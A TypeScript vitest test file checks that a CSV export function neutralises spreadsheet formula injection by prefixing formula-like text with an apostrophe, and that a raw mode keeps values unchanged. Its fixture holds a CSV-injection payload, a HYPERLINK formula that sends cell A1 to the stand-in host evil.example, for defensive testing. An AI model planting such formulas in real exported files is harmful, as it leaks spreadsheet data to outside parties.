import { describe, expect, it } from 'vitest';
import { tableFromArrays } from 'apache-arrow';
import { csvFromTextTable } from '../../../src/engines/wasm/export.ts';

// The worker's CSV download (issue 10, item 6): text from a shared dataset must not become a formula in a spreadsheet.
describe('csvFromTextTable', () => {
  const t = tableFromArrays({
    '=cmd': ['=HYPERLINK("https://evil.example/?"&A1,"Click")', '@SUM(A1)', 'ok', '-12.5'],
    amount: ['-12.5', '-inf', '3', '-1e-9'],
  });

  it('neutralizes formulas in text (header included) and leaves numbers and numeric columns as they are', () => {
    expect(csvFromTextTable(t, [false, true])).toBe(`'=cmd,amount\r\n"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",-12.5\r\n'@SUM(A1),-inf\r\nok,3\r\n-12.5,-1e-9\r\n`);
  });

  it('raw: every value as the data holds it', () => {
    expect(csvFromTextTable(t, [false, true], { raw: true })).toBe(`=cmd,amount\r\n"=HYPERLINK(""https://evil.example/?""&A1,""Click"")",-12.5\r\n@SUM(A1),-inf\r\nok,3\r\n-12.5,-1e-9\r\n`);
  });
});
